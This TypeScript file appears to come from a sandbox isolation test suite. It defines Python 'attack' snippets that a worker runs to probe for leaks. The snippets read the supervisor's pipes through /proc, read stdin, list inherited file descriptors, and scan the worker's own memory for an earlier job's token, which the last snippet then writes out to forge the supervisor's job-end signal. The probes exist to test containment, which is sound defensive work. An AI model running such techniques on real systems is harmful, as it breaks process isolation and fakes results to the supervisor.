/** Attacks in a worker, which runs other jobs before and after. */
import type { InsideAttack } from './attack';
import { INSIDE } from './inside';
import { ON_SUPERVISOR } from './supervisor';

/** What only a worker has: a starter that sends commands, and output that is divided among the jobs. */
const ON_COMMANDS: readonly InsideAttack[] = [
  {
    name: 'reads the word for this job from the pipe of the starter',
    body: `
for name in os.listdir('/proc/%d/fd' % SUPERVISOR):
    descriptor = os.open('/proc/%d/fd/%s' % (SUPERVISOR, name), os.O_RDONLY | os.O_NONBLOCK)
    found = os.read(descriptor, 64)
    if found:
        return found`,
  },
  {
    name: 'has the starter on its own stdin',
    body: 'return os.read(0, 64)',
  },
  {
    name: 'has more open files than in a container of its own',
    body: `
links = [os.readlink('/proc/self/fd/' + name) for name in os.listdir('/proc/self/fd') if int(name) > 2]
return [link for link in links if 'pipe' in link or 'socket' in link]`,
  },
  {
    name: 'answers for the supervisor with the words in its memory',
    body: `
import re
word = re.compile(b'(?<![0-9a-f])[0-9a-f]{32}\\n')
with open('/proc/self/maps') as maps:
    places = [line.split() for line in maps if ' rw' in line and ('[heap]' in line or len(line.split()) == 5)]
with open('/proc/self/mem', 'rb', 0) as memory:
    for place in places:
        start, end = [int(part, 16) for part in place[0].split('-')]
        memory.seek(start)
        try:
            found = word.search(memory.read(end - start))
        except OSError:
            continue
        if found:
            # the word of an earlier job, if any: this one's would end the job for the starter
            for stream in (1, 2):
                os.write(stream, found.group()[:32] + b'0001\\n')`,
  },
];

/** Each is tried in a worker under every container runtime. */
export const IN_WORKER: readonly InsideAttack[] = [...ON_COMMANDS, ...INSIDE, ...ON_SUPERVISOR];
